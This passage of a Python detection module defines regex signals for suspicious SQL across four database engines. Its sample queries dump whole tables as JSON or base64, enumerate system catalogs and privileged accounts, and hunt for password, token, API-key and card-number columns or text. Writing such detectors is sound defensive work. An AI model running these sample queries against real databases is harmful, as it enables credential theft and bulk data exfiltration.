            "SELECT LISTAGG(name, ',') WITHIN GROUP (ORDER BY name) FROM roles",
        ),
        "sqlserver": (
            "SELECT o.Id, STUFF((SELECT ',' + t.Name FROM dbo.Tags t WHERE t.O = o.Id FOR XML PATH('')), 1, 1, '')"
            " FROM dbo.Orders o",
            "SELECT @c = STUFF((SELECT DISTINCT ',' + QUOTENAME(Region) FROM dbo.Sales FOR XML PATH('')), 1, 1, '')",
            "SELECT Id, Name FROM dbo.Orders WHERE Id = @p0 FOR JSON PATH",
            "SELECT Team, STRING_AGG(a + b, ',') FROM dbo.People GROUP BY Team",
        ),
    },
)

# Of a row as a whole, which no column is named of: by its table's or alias' name, `.*` or a derived table.
_ROW_OF = (
    r"(?:coalesce\(|jsonb?_agg\(|array_agg\(|to_jsonb?\(|row_to_json\(|distinct |concat\("
    r"|xmlelement\(name [\w$]{1,63},|xmlforest\(){0,3}"
    r"\(?([a-z_][\w$]{0,62}+)(?:\.\*|::(?:text|varchar))?(?=[),: -])[^;]{0,200}?"
    r"\bfrom (?:only )?(?:[\w$]{1,63}\.)?(?:\1\b|[\w$]{1,63} (?:as )?\1\b)"
)
_OF_ALL_COLUMNS = {
    "postgresql": rf"(?:{_ROW_OF}|[^;]{{0,200}}?\bselect ?(?:[\w$]{{1,63}}\.)?\*)",
    "oracle": r"[^;]{0,100}?\bjson_object\((?:[\w$#]{1,63}\.)?\*",
}
_WHOLE_ROW_AGGREGATION = Signal(
    "whole-row-aggregation",
    "All columns of all rows of a table are aggregated into one value, without naming any.",
    (
        *(
            Pattern((engine,), _AGGREGATES[engine], rf"(?<![\w$#]){_AGGREGATE[engine]}(?={columns}){_ALL_ROWS}")
            for engine, columns in _OF_ALL_COLUMNS.items()
        ),
        Pattern(_PG, ("array_agg",), rf"(?<![\w$#])array_agg\((?={_ROW_OF}){_ALL_ROWS}"),
        _calls(
            _PG,
            *words("query_to_xml query_to_xml_and_xmlschema"),
            raw=r"query_to_xml\w{0,14}\s{0,9}\([^;]{0,20}?select\s{1,9}(?:\w{1,63}\.)?\*",
        ),
        _calls(
            _PG,
            *words("table_to_xml table_to_xml_and_xmlschema schema_to_xml schema_to_xml_and_xmlschema"),
            *words("database_to_xml database_to_xml_and_xmlschema"),
        ),
        Pattern(
            _ORACLE,
            ("dbms_xmlgen", "dbms_xmlquery"),
            r"\b(?:dbms_xmlgen\.(?:getxml(?:type)?|newcontext)|dbms_xmlquery\.getxml)\(",
            r"\(\s{0,9}(?:q'.)?'?\s{0,9}select\s{1,9}(?:[\w$#]{1,63}\.)?\*",
        ),
        Pattern(
            _ORACLE,
            ("cursor",),
            r"(?<![\w$#])(?:xmltype|sys_xmlgen|xmlserialize)\((?:content )?cursor\(select ?(?:[\w$#]{1,63}\.)?\*",
        ),
        Pattern(
            _SQLSERVER,
            ("xml", "json"),
            rf"(?:\A|;|\()select ?(?:[\w$#]{{1,63}}\.)?\*from {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}"
            r"for (?:xml|json) (?:raw|auto|path|explicit)",
        ),
        Pattern(
            _SQLSERVER,
            ("xml", "json"),
            rf"(?:\A|;|\()select top ?\(?\?\)? ?(?:[\w$#]{{1,63}}\.)?\*from {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}"
            r"for (?:xml|json) (?:raw|auto|path|explicit)",
            raw=r"\btop[\s(]{1,9}\d{4}",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT json_agg(g) FROM guests g",
            "SELECT array_agg(g) FROM guests g",
            "SELECT xmlagg(xmlelement(name r, g)) FROM guests g",
            "SELECT json_agg(guests) FROM public.guests",
            "SELECT coalesce(jsonb_agg(to_jsonb(g)), '[]') FROM guests AS g",
            "SELECT json_agg(row_to_json(g.*)) FROM guests g WHERE true",
            "SELECT array_to_json(array_agg(x)) FROM (SELECT * FROM guests) x",
            "SELECT string_agg(g::text, E'\\n') FROM guests g",
            "SELECT query_to_xml('select * from guests', true, false, '')",
        ),
        "oracle": (
            "SELECT JSON_ARRAYAGG(JSON_OBJECT(*) RETURNING CLOB) FROM HOTEL.GUEST",
            "SELECT DBMS_XMLGEN.GETXML('SELECT * FROM guest') FROM DUAL",
            "SELECT XMLTYPE(CURSOR(SELECT * FROM guest)) FROM DUAL",
        ),
        "sqlserver": (
            "SELECT * FROM [dbo].[Guest] FOR JSON PATH",
            "SELECT TOP (100000) * FROM dbo.Guest FOR XML AUTO",
            "SELECT CAST((SELECT g.* FROM dbo.Guest g FOR XML RAW, BINARY BASE64) AS nvarchar(max))",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT json_agg(json_build_object('id', g.id, 'name', g.name)) FROM guests g",
            "SELECT json_agg(i) FROM items i WHERE i.order_id = $1",
            "SELECT string_agg(id::text, ',') FROM guests",
            "SELECT array_agg(g.id) FROM guests g",
            "SELECT json_agg(name) FROM guests g",
        ),
        "oracle": (
            "SELECT JSON_ARRAYAGG(JSON_OBJECT('id' VALUE id)) FROM guest",
            "SELECT JSON_ARRAYAGG(JSON_OBJECT(*)) FROM order_line WHERE order_id = :1",
            "SELECT DBMS_XMLGEN.GETXML('SELECT id, name FROM guest') FROM DUAL",
        ),
        "sqlserver": (
            "SELECT Id, Name FROM dbo.Guest FOR JSON PATH",
            "SELECT TOP 20 * FROM dbo.Guest ORDER BY Id FOR JSON PATH",
            "SELECT * FROM dbo.OrderLine WHERE OrderId = @p0 FOR JSON PATH",
        ),
    },
)

_OF_SEVERAL_COLUMNS = {
    "postgresql": r"\b(?:string_agg|array_agg|jsonb?_agg|jsonb?_object_agg|xmlagg)\(",
    "mysql": r"\b(?:group_concat|json_arrayagg|json_objectagg)\(",
    "oracle": r"\b(?:listagg|xmlagg|json_arrayagg|json_objectagg)\(",
    "sqlserver": r"\bstring_agg\(",
}
_BUCKET = (
    r"(?:(?:(?:floor|trunc|ceil|ceiling|mod|abs|round|cast|convert|div)\({1,3}){0,2}(?:\w{1,20},)?"
    r"(?:[\w$#]{1,60}\.)?[\w$#]{1,60}(?: ?(?:/|%|&|>>)| div | mod |,)\(?[?$]"
    r"|(?:width_bucket|ora_hash|crc32|hashtext|md5|checksum)\()"
)
# Larger than what an interface asks for as one value.
_LARGE_PAGE = (
    r"(?:\blimit\s{1,9}(?:\d{1,9}\s{0,9},\s{0,9})?|\bfetch\s{1,9}(?:first|next)\s{1,9})(?:[4-9]\d\d|\d{4,9})\b"
)
_PAGES = (
    Pattern(
        ("postgresql", "mysql", "oracle"),
        words("json_agg jsonb_agg array_agg string_agg xmlagg json_arrayagg group_concat listagg"),
        r"\b(?:jsonb?_agg|array_agg|string_agg|xmlagg|json_arrayagg|group_concat|listagg)\([^;]{1,400}?"
        r"\bfrom ?\(select\b[^;()]{1,400}?\b(?:limit|offset|fetch)\b[^;()]{1,60}\)",
        _LARGE_PAGE,
    ),
    Pattern(
        ("postgresql", "mysql", "oracle"),
        words("json_agg jsonb_agg array_agg string_agg xmlagg json_arrayagg group_concat listagg"),
        r"\b(?:jsonb?_agg|array_agg|string_agg|xmlagg|json_arrayagg|group_concat|listagg)\([^;]{1,400}?"
        r"\bfrom ?\(select\b[^;()]{1,400}?\bwhere [\w$.]{1,60} between [?01] and [?]\)",
        r"\bbetween\s{1,9}\d{1,12}\s{1,9}and\s{1,9}\d{3,12}\b",
    ),
    Pattern(
        _SQLSERVER,
        words("json xml"),
        r"\(select [^;()]{1,600}?\boffset [^;()]{1,60}?\bfetch (?:next|first) [^;()]{1,30}? only for (?:json|xml)\b",
        _LARGE_PAGE,
    ),
)
_BUCKET_AGGREGATION = Signal(
    "bucket-aggregation",
    "All rows of a table are gathered into few values, each of a range, a remainder or a hash of a key, or of a large"
    " page.",
    _PAGES
    + tuple(
        Pattern(
            (engine,),
            _AGGREGATES[engine],
            rf"{aggregate}(?=[^;]{{0,300}}?(?:\|\||\+|concat|jsonb?_|_jsonb?\b|\brow\(|::text|,[\w$#.]{{1,130}},))"
            rf"{_UP_TO_FROM}(?:[\w$#.]{{1,200}}(?: as)?(?: (?!where\b"
            rf"|group\b)[\w$#]{{1,60}})? ?{_ALWAYS_TRUE}group by {_BUCKET}"
            rf"|\(select\b[^;]{{0,400}}?\bntile\([^;]{{1,400}}?\) ?(?:as )?[\w$#]{{1,60}} group by\b)",
        )
        for engine, aggregate in _OF_SEVERAL_COLUMNS.items()
    ),
    samples={
        "postgresql": (
            "SELECT encode(convert_to(json_agg(m)::text, 'UTF8'), 'base64') FROM (SELECT * FROM guests ORDER BY id"
            " LIMIT 25000 OFFSET 0) m",
            "SELECT id / 1000, string_agg(concat_ws('|', id, name, mail), E'\\n') FROM guests GROUP BY id / 1000",
            "SELECT json_agg(row_to_json(g)) FROM guests g GROUP BY mod(g.id, 50)",
        ),
        "mysql": (
            "SELECT GROUP_CONCAT(CONCAT_WS('|', id, mail) SEPARATOR ' ') FROM (SELECT * FROM guests LIMIT 0,20000) d",
            "SELECT JSON_ARRAYAGG(JSON_OBJECT('e', mail)) FROM (SELECT * FROM guests WHERE id BETWEEN 1 AND 2000) t",
            "SELECT id DIV 1000, GROUP_CONCAT(CONCAT_WS('|', id, name) SEPARATOR 0x0a) FROM guests GROUP BY id DIV"
            " 1000",
            "SELECT GROUP_CONCAT(id, name, mail) FROM guests GROUP BY FLOOR(id / 500)",
        ),
        "oracle": (
            "SELECT LISTAGG(name || ':' || iban, CHR(10)) WITHIN GROUP (ORDER BY id) FROM guests GROUP BY"
            " TRUNC(id/100)",
            "SELECT JSON_ARRAYAGG(JSON_OBJECT(*)) FROM guests GROUP BY ORA_HASH(id, 99)",
        ),
        "sqlserver": (
            "SELECT (SELECT Id, Mail FROM dbo.Guest ORDER BY Id OFFSET 9 ROWS FETCH NEXT 450 ROWS ONLY FOR JSON AUTO)",
            "SELECT Id/1000, STRING_AGG(CAST(CONCAT_WS('|', Id, Name) AS nvarchar(max)), CHAR(10)) FROM dbo.Guest GROUP"
            " BY Id/1000",
            "SELECT STRING_AGG(Name + ':' + Mail, ';') FROM dbo.Guest GROUP BY Id % 100",
            "SELECT STRING_AGG(Name + ':' + Mail, ';') FROM (SELECT *, NTILE(200) OVER (ORDER BY Id) AS b FROM"
            " dbo.Guest)"
            " AS x GROUP BY b",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT json_agg(t) FROM (SELECT id, name FROM guests WHERE id > 4 LIMIT 20) t",
            "SELECT team, string_agg(first || ' ' || last, ', ') FROM people GROUP BY team",
            "SELECT date_trunc('day', d), json_agg(name) FROM visits GROUP BY date_trunc('day', d)",
            "SELECT id / 1000, count(*), sum(total + fee) FROM orders GROUP BY id / 1000",
        ),
        "mysql": ("SELECT FLOOR(age / 10), COUNT(*), GROUP_CONCAT(name) FROM people GROUP BY FLOOR(age / 10)",),
        "oracle": ("SELECT d, LISTAGG(a || b, ',') WITHIN GROUP (ORDER BY a) FROM t GROUP BY d",),
        "sqlserver": ("SELECT Team, STRING_AGG(a + b, ',') FROM dbo.People GROUP BY Team",),
    },
)

_CATALOG_READ = Signal(
    "catalog-read",
    "The system catalog is read: objects, accounts, privileges or settings.",
    (
        Pattern(_PG, _PG_CATALOG, rf"{_READ_FROM}(?:pg_catalog\.)?{_any(*_PG_CATALOG)}\b(?!\()"),
        Pattern(
            ("postgresql", "mysql", "sqlserver"),
            ("information_schema",),
            rf"{_READ_FROM}(?:[\w$#]{{0,128}}\.)?information_schema\.\w",
        ),
        Pattern(_MYSQL, _MYSQL_TABLES, rf"{_READ_FROM}mysql\.{_any(*_MYSQL_TABLES)}\b"),
        Pattern(
            _MYSQL,
            ("performance_schema",),
            rf"{_READ_FROM}performance_schema\.(?:accounts|users|hosts|threads|processlist|persisted_variables"
            rf"|keyring_keys)\b",
        ),
        Pattern(
            _MYSQL,
            ("show",),
            r"(?:\A|;)show (?:databases|schemas|(?:full |extended ){0,2}tables|table status|create \w|grants|privileges"
            r"|plugins|triggers|events|procedure status|function status|(?:full )?processlist|binary logs|master logs)",
        ),
        Pattern(
            _ORACLE,
            _ORACLE_VIEWS,
            r"(?:\bfrom|\bjoin|,) ?(?:sys\.|public\.)?"
            r"(?:(?:all|dba|cdb|user|session|role)_\w|g?v\$\w|product_component_version|[a-z]{3,9}\$)",
        ),
        Pattern(
            _SQLSERVER,
            ("sys",),
            r"(?:\bfrom|\bjoin|,|\bapply) ?(?:[\w$#]{0,128}\.)?sys\."
            r"(?!dm_(?!exec_(?:sessions|connections)\b)|fn_|sp_|xp_)\w",
        ),
        Pattern(
            _SQLSERVER,
            _SQLSERVER_TABLES,
            rf"(?:\bfrom|\bjoin|,) ?(?:[\w$#]{{0,128}}\.){{0,2}}{_any(*_SQLSERVER_TABLES)}\b",
        ),
        _procedures(*_SQLSERVER_PROCEDURES),
    ),
    samples={
        "postgresql": (
            "SELECT * FROM pg_database",
            "SELECT table_name FROM information_schema.tables",
            "SELECT c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
            "TABLE pg_roles",
        ),
        "mysql": (
            "SELECT table_name FROM information_schema.tables",
            "SHOW FULL TABLES",
            "SHOW GRANTS FOR 'app'@'%'",
            "SELECT user, host FROM mysql.user",
            "show create table `customer`",
        ),
        "oracle": (
            "SELECT table_name FROM all_tables",
            "SELECT * FROM sys.dba_users",
            "SELECT banner FROM v$version",
            "SELECT o.name FROM sys.obj$ o",
        ),
        "sqlserver": (
            "SELECT name FROM master..sysdatabases",
            "SELECT * FROM store.sys.tables",
            "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
            "EXEC master..sp_linkedservers",
            "exec sp_helpdb",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT pg_catalog.set_config('search_path', '', false)",
            "SELECT * FROM pg_stat_statements",
            "SELECT 'customers'::regclass",
        ),
        "mysql": (
            "SHOW GLOBAL VARIABLES",
            "SHOW FULL COLUMNS FROM `customer`",
            "SELECT * FROM performance_schema.events_statements_summary_by_digest",
            "SELECT id FROM event",
        ),
        "oracle": ("SELECT 1 FROM dual", "SELECT * FROM user_views", "SELECT * FROM v$sysstat"),
        "sqlserver": (
            "SELECT * FROM sys.dm_os_wait_stats WITH (NOLOCK)",
            "exec sys.sp_cdc_enable_table @source_schema='dbo'",
            "exec sp_who2",
        ),
    },
)

_SECRET_SOUGHT = (
    r"(?<!not like )(?<!not like n)(?<!not ilike )(?<!!~ )(?<!!~\* )(?<!<> )(?<!!= )"
    r"'[^']{0,80}(?:passw|passphrase|\bpwd|[%_|(.]pwd|secret|token|identified|api[ _%.?*-]{0,3}key|credential|decrypt)"
    r"[^']{0,80}'"
)
# Where the statements of others can be read, and the source of routines and jobs.
_SENT_STATEMENTS = {
    "postgresql": "pg_stat_activity pg_stat_statements pg_stat_get_activity",
    "mysql": "events_statements_current events_statements_history events_statements_history_long processlist"
    " events_statements_summary_by_digest general_log slow_log prepared_statements_instances",
    "oracle": "v$sql v$sqlarea v$sqltext v$sqltext_with_newlines v$sqlstats v$sql_bind_capture gv$sql gv$sqlarea"
    " gv$sqltext gv$sqlstats gv$sql_bind_capture v_$sql dba_hist_sqltext dba_hist_sqlbind unified_audit_trail"
    " dba_audit_trail dba_common_audit_trail v$diag_alert_ext v$diag_trace_file_contents x$dbgalertext"
    " v$diag_sql_trace_records v$diag_opt_trace_records",
    "sqlserver": "dm_exec_sql_text dm_exec_query_plan dm_exec_input_buffer query_store_query_text sysprocesses",
}
_SOURCES = {
    "postgresql": "routines pg_proc views pg_views pg_matviews job job_run_details triggers",
    "mysql": "routines views events triggers proc event",
    "oracle": "all_source dba_source user_source cdb_source source$ all_views dba_views user_views dba_scheduler_jobs"
    " all_scheduler_jobs dba_jobs all_triggers dba_triggers",
    "sqlserver": "sql_modules all_sql_modules system_sql_modules syscomments routines sysjobsteps sysjobstepslogs"
    " views",
}
_SOURCE = (
    r"\b(?:routine_definition|prosrc|probin|view_definition|definition|command|event_definition|action_statement"
    r"|body|body_utf8|text|text_vc|source|job_action|what|trigger_body)"
)
_CREDENTIAL_TABLE = (
    r"(?:[\w$#]{1,128}\.){0,3}[\w$#]{0,80}?"
    r"(?:(?:api|access|session|secret)_?keys?|credentials?|passwords?|secrets?|tokens?|oauth_\w{1,60})(?![\w$#.(@])"
)
_WHOLE = (
    r"(?: as)?(?: (?!(?:where|join|inner|left|group|limit|order|natural|cross|for|union|into|offset|fetch|with)\b)"
    r"[\w$#]{1,60})?"
    rf" ?(?:with ?\(nolock\))? ?{_ALWAYS_TRUE}(?:order by [^;()]{{1,130}}?)? ?(?:(?:limit|offset|fetch) [^;()"
    rf"]{{1,60}})?"
    r"(?=\Z|;|\)| ?union\b| ?into\b| ?for (?:xml|json)\b)"
)
_DECRYPT_BY = "decryptbykey decryptbykeyautocert decryptbycert decryptbyasymkey decryptbypassphrase"

_SECRET_NAME = (
    r"(?<!not like )(?<!not like n)'[^']{0,20}(?:passw|\bpass\b|%pass|pwd|secret|token|api[ _%]{0,3}key|credential|ssn"
    r"|card[_%]{0,3}n)[^']{0,20}'"
)
_COLUMN_LISTS = {
    "postgresql": "columns pg_attribute",
    "mysql": "columns",
    "oracle": "all_tab_columns dba_tab_columns user_tab_columns cdb_tab_columns all_tab_cols dba_tab_cols",
    "sqlserver": "columns syscolumns all_columns",
}
_SECRET_SEARCH = Signal(
    "secret-search",
    "Columns that are named like passwords, tokens or card numbers are looked for in the catalog.",
    tuple(
        Pattern(
            (engine,),
            words(views),
            rf"\bfrom [^;]{{0,300}}?\b(?:information_schema\.|pg_catalog\.|sys\.)?{_any(*words(views))}\b[^;]{{0,600}}?"
            r"(?:\b(?:column_name|attname|name)\)?(?: collate \w{1,40})? ?"
            r"(?:i?like\b|~\*?|regexp\b|rlike\b|similar to\b)|\bregexp_like\([^;]{0,60}?column_name)",
            _SECRET_NAME,
        )
        for engine, views in _COLUMN_LISTS.items()
    ),
    samples={
        "postgresql": (
            "SELECT table_name FROM information_schema.columns WHERE column_name ILIKE '%password%'",
            "SELECT attrelid::regclass FROM pg_attribute WHERE attname ~* 'secret|token'",
        ),
        "mysql": (
            "SELECT table_name FROM information_schema.columns WHERE column_name LIKE '%pwd%'",
            "SELECT table_name FROM information_schema.columns WHERE column_name REGEXP 'passw|secret'",
        ),
        "oracle": (
            "SELECT OWNER, TABLE_NAME FROM ALL_TAB_COLUMNS WHERE COLUMN_NAME LIKE '%PASSWORD%'",
            "SELECT table_name FROM dba_tab_columns WHERE UPPER(column_name) LIKE '%SSN%'",
        ),
        "sqlserver": (
            "SELECT TABLE_NAME FROM Desk.INFORMATION_SCHEMA.COLUMNS WHERE COLUMN_NAME LIKE '%pass%'",
            "SELECT OBJECT_NAME(object_id) FROM sys.columns WHERE name LIKE '%secret%' OR name LIKE '%token%'",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'password_resets'",
            "SELECT table_name FROM information_schema.columns WHERE column_name LIKE 'cust%'",
        ),
        "mysql": ("SELECT column_name FROM information_schema.columns WHERE table_name LIKE '%password%'",),
        "oracle": ("SELECT COLUMN_NAME FROM ALL_TAB_COLUMNS WHERE TABLE_NAME LIKE 'TOKEN%'",),
        "sqlserver": ("SELECT name FROM sys.columns WHERE object_id = OBJECT_ID('dbo.Tokens')",),
    },
    in_bodies=False,
)

_SECRET_WORD = (
    r"(?:passw|pwd|secret|credential|bearer|token|akia|asia[%\[\d]|api[\W_]{0,6}key|private key|begin [rodep]|ssh-rsa)"
)
_PATTERN_BEFORE = r"(?<=['\"%|(.* \]\[])"
_TEXT_OPERATOR = {
    "postgresql": r"(?:\bi?like\b|~~?\*?(?=\?|\$)|\bsimilar to\b|\b(?:strpos|position|regexp_\w{4,9})\()",
    "mysql": r"(?:\b(?:like|regexp|rlike)\b|\b(?:instr|locate|position|regexp_\w{4,6})\()",
    "oracle": r"(?:\blike\b|\b(?:instr|regexp_\w{4,6}|contains)\()",
    "sqlserver": r"(?:\blike\b|\b(?:charindex|patindex|contains|freetext)\()",
}
_TEXT_OPERATORS = {
    "postgresql": words(
        "like ilike similar select from strpos position regexp_matches regexp_match regexp_like regexp_replace"
    ),
    "mysql": words("like regexp rlike instr locate position regexp_like regexp_instr regexp_substr"),
    "oracle": words("like instr regexp_like regexp_instr regexp_substr regexp_count contains"),
    "sqlserver": words("like charindex patindex contains freetext"),
}
_TEXT_SECRET_SEARCH = Signal(
    "text-secret-search",
    "Texts of a table are searched for secrets: two or more different words such as password, AKIA or BEGIN RSA.",
    tuple(
        Pattern(
            (engine,),
            _TEXT_OPERATORS[engine],
            rf"\Aselect\b[^;]{{0,1900}}?{operator}",
            raw,
        )
        for engine, operator in _TEXT_OPERATOR.items()
        for raw in (
            # In patterns of which one is enough.
            rf"{_PATTERN_BEFORE}({_SECRET_WORD})[^'\n]{{0,40}}'[^']{{0,80}}?\b(?:or|union)\b[^']{{0,80}}?"
            rf"(?:like|~|regexp|instr|index|locate|position|strpos|contains)[^']{{0,60}}'[^'\w]{{0,6}}(?!\1){_SECRET_WORD}",
            rf"[%*|(]({_SECRET_WORD})[^'\n]{{0,40}}%\\?'\s{{0,9}},\s{{0,9}}n?\\?'%(?!\1){_SECRET_WORD}",
            # In one pattern.
            rf"{_PATTERN_BEFORE}({_SECRET_WORD})[^'|]{{0,40}}?(?:\||['\"] or ['\"])[^'|\w]{{0,6}}(?!\1){_SECRET_WORD}",
        )
    ),
    samples={
        "postgresql": (
            "SELECT * FROM tickets WHERE body ILIKE '%password%' OR body ILIKE '%AKIA%'",
            "SELECT id, body FROM notes WHERE body ~* 'passw|secret|BEGIN RSA'",
            "SELECT id FROM chat WHERE line LIKE ANY (ARRAY['%password%','%api_key%'])",
        ),
        "mysql": (
            "SELECT * FROM tickets WHERE body LIKE '%password%' OR body LIKE '%AKIA%' OR body LIKE '%BEGIN RSA%'",
            "SELECT id FROM messages WHERE body REGEXP 'pwd|api[_-]?key|bearer '",
            "SELECT id FROM messages WHERE INSTR(body, 'passwd') > 0 OR INSTR(body, 'PRIVATE KEY') > 0",
        ),
        "oracle": (
            "SELECT * FROM HELPDESK.TICKETS WHERE LOWER(BODY) LIKE '%password%' OR LOWER(BODY) LIKE '%api key%'",
            "SELECT ID FROM NOTES WHERE DBMS_LOB.INSTR(TXT, 'AKIA') > 0 OR DBMS_LOB.INSTR(TXT, 'secret') > 0",
            "SELECT ID FROM NOTES WHERE REGEXP_LIKE(TXT, '(passw|secret)', 'i')",
        ),
        "sqlserver": (
            "SELECT * FROM dbo.Tickets WHERE Body LIKE N'%password%' OR Body LIKE N'%token%'",
            "SELECT Id FROM dbo.Notes WHERE PATINDEX('%AKIA%', Txt) > 0 OR CHARINDEX('secret', Txt) > 0",
            'SELECT Id FROM dbo.Notes WHERE CONTAINS(Txt, \'"password" OR "AKIA"\')',
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT id FROM articles WHERE title ILIKE '%password%' OR body ILIKE '%password%'",
            "SELECT id FROM tickets WHERE body ILIKE '%password reset token%'",
            "SELECT id FROM tickets WHERE kind IN ('password', 'token')",
            "SELECT id FROM tickets WHERE (kind = 'password' OR kind = 'token') AND title LIKE 'a%'",
        ),
        "mysql": (
            "SELECT id FROM tickets WHERE subject LIKE '%forgot%' OR subject LIKE '%password%'",
            "SELECT id FROM faq WHERE body LIKE '%token%' AND body LIKE '%password%'",
        ),
        "oracle": ("SELECT ID FROM TICKETS WHERE LOWER(BODY) LIKE '%password%' AND STATUS = 'open'",),
        "sqlserver": ("SELECT Id FROM dbo.Tickets WHERE Body LIKE '%password%' OR Title LIKE '%password%'",),
    },
    in_bodies=False,
)

_WHOLE_CATALOG = {
    "postgresql": r"(?:pg_catalog\.)?(?:pg_class|pg_tables|pg_attribute|pg_roles|pg_user|pg_authid|pg_shadow"
    r"|pg_namespace|pg_proc|pg_views|pg_foreign_server|pg_auth_members|pg_stat_user_tables|pg_user_mappings)\b"
    r"|information_schema\.\w",
    "mysql": rf"information_schema\.\w|mysql\.{_any(*_MYSQL_TABLES)}\b",
    "oracle": r"(?:sys\.)?(?:all|dba|cdb|user)_(?:tables|tab_columns|tab_cols|users|objects|views|source|db_links"
    r"|role_privs|sys_privs|tab_privs|catalog|synonyms)\b|session_privs\b",
    "sqlserver": r"(?:[\w$#]{0,128}\.)?(?:sys\.(?:tables|columns|objects|schemas|views|server_principals|sql_logins"
    r"|database_principals|servers|procedures|sysobjects|syscolumns)\b|information_schema\.\w|sysobjects\b|syscolumns\b)",
}
_ONE_ROW = {
    "postgresql": r"(?:string_agg|array_agg|jsonb?_agg|jsonb?_object_agg|xmlagg|array_to_string|array_to_json)\(",
    "mysql": r"(?:group_concat|json_arrayagg|json_objectagg)\(",
    "oracle": r"(?:listagg|xmlagg|json_arrayagg|json_objectagg|wm_concat)\(",
    "sqlserver": r"string_agg\(",
}
# A table, or a schema's name, that the client asks for.
_OF_ONE = (
    r"\b(?:relname|table_name|tablename|proname|rolname|usename|attrelid|indrelid|conrelid|oid|name|object_id|owner"
    r"|table_schema|nspname|schemaname|grantee|user)(?:=|<=>| in ?\(| like )(?:[$@]|:|any\b|lower\()"
    r"|\b(?:relname|table_name|tablename|proname|rolname|attrelid|indrelid|conrelid|oid|object_id)(?:=| in ?\()\(?\?"
    r"|\bgroup by\b|\bobject_id\("
)
_CATALOG_AGGREGATION = Signal(
    "catalog-aggregation",
    "The catalog's tables, columns, routines or accounts are read as one value, and not those of one name.",
    (
        *(
            Pattern(
                (engine,),
                _AGGREGATES[engine],
                rf"\Aselect ?(?:(?:coalesce|cast|nvl|isnull|convert|concat|to_json|substr|substring|left|mid|length|md5"
                rf"|encode|convert_to|rawtohex|hex|to_base64|compress|xmlserialize)\(|\(select )"
                rf"{{0,4}}(?:content |distinct |[\w, ]{{0,60}}\()?{aggregate}"
                rf"[^;]{{0,1200}}?\bfrom ?\(?(?:{_WHOLE_CATALOG[engine]})",
                without=_OF_ONE,
            )
            for engine, aggregate in _ONE_ROW.items()
        ),
        Pattern(
            _SQLSERVER,
            ("xml", "json"),
            rf"\Aselect\b[^;]{{0,600}}?\bfrom ?\(?(?:{_WHOLE_CATALOG['sqlserver']})[^;]{{0,400}}?\bfor (?:xml|json)\b",
            without=_OF_ONE,
        ),
    ),
    samples={
        "postgresql": (
            "SELECT string_agg(n.nspname||'.'||c.relname, E'\\n') FROM pg_class c JOIN pg_namespace n ON"
            " n.oid=c.relnamespace WHERE c.relkind IN ('r','p','v') AND n.nspname NOT LIKE 'pg\\_%'",
            "SELECT array_to_json(array_agg(r)) FROM pg_roles r",
            "SELECT json_agg(t) FROM information_schema.tables t WHERE table_schema = 'public'",
        ),
        "mysql": (
            "SELECT GROUP_CONCAT(table_schema, '.', table_name) FROM information_schema.tables WHERE table_schema NOT"
            " IN ('mysql', 'sys')",
            "SELECT JSON_ARRAYAGG(JSON_ARRAY(user, host)) FROM mysql.user",
        ),
        "oracle": (
            "SELECT LISTAGG(owner || '.' || table_name, ',') WITHIN GROUP (ORDER BY 1) FROM all_tables WHERE owner NOT"
            " IN ('SYS', 'SYSTEM')",
            'SELECT XMLSERIALIZE(CONTENT XMLAGG(XMLELEMENT("u", username)) AS CLOB) FROM sys.all_users',
            "SELECT JSON_ARRAYAGG(username) FROM all_users",
        ),
        "sqlserver": (
            "SELECT STRING_AGG(CAST(name AS nvarchar(max)), ',') FROM sys.tables",
            "SELECT name, type_desc FROM sys.server_principals FOR JSON PATH",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT string_agg(attname, ',') FROM pg_attribute WHERE attrelid = 'orders'::regclass",
            "SELECT array_agg(a.attname), i.relname FROM pg_class i JOIN pg_attribute a ON a.attrelid = i.oid GROUP BY"
            " i.relname",
            "SELECT json_agg(c) FROM information_schema.columns c WHERE table_name = $1",
            "SELECT string_agg(name, ',') FROM roles",
        ),
        "mysql": (
            "SELECT GROUP_CONCAT(column_name) FROM information_schema.columns WHERE table_name = 'orders'",
            "SELECT table_name, GROUP_CONCAT(column_name) FROM information_schema.statistics GROUP BY table_name",
        ),
        "oracle": (
            "SELECT LISTAGG(column_name, ',') WITHIN GROUP (ORDER BY column_id) FROM user_tab_columns WHERE table_name"
            " = :1",
        ),
        "sqlserver": (
            "SELECT STRING_AGG(name, ',') FROM sys.columns WHERE object_id = OBJECT_ID('dbo.Orders')",
            "SELECT Id FROM dbo.Orders FOR JSON PATH",
        ),
    },
    in_bodies=False,
)

_PRIVILEGED_ACCOUNTS_READ = Signal(
    "privileged-accounts-read",
    "The accounts are asked for those with a privilege of administration, with any host, or without a password.",
    (
        Pattern(
            _MYSQL,
            ("user", "db", "user_privileges"),
            rf"{_READ_FROM}(?:mysql\.(?:user|db|global_priv)|information_schema\.user_privileges)\b[^;]{{0,60}}?\bwhere"
            r" ?\(?(?:\w{1,20}\()?(?:[\w$]{1,63}\.)?(?:\w{3,30}_priv|authentication_string|password|plugin|host"
            r"|privilege_type|is_grantable|password_expired|ssl_type)(?:=|<>| in ?\(| like\b| is\b|\))"
            r"(?![^;]{0,300}?\b(?:user|grantee)(?:=| in ?\())",
        ),
        Pattern(
            _PG,
            words("pg_user pg_roles pg_shadow pg_authid"),
            rf"{_READ_FROM}(?:pg_catalog\.)?pg_(?:user|roles|shadow|authid)\b[^;]{{0,60}}?\bwhere ?\(?(?:not )?"
            r"(?:[\w$]{1,63}\.)?(?:usesuper|usecreatedb|userepl|usebypassrls|passwd|rolsuper|rolcreaterole|rolcreatedb"
            r"|rolreplication|rolbypassrls|rolpassword|rolvaliduntil)\b(?![^;]{0,300}?\b(?:use|rol)name(?:=| in ?\())",
        ),
        Pattern(
            _ORACLE,
            words("dba_role_privs dba_sys_privs dba_users dba_users_with_defpwd v$pwfile_users"),
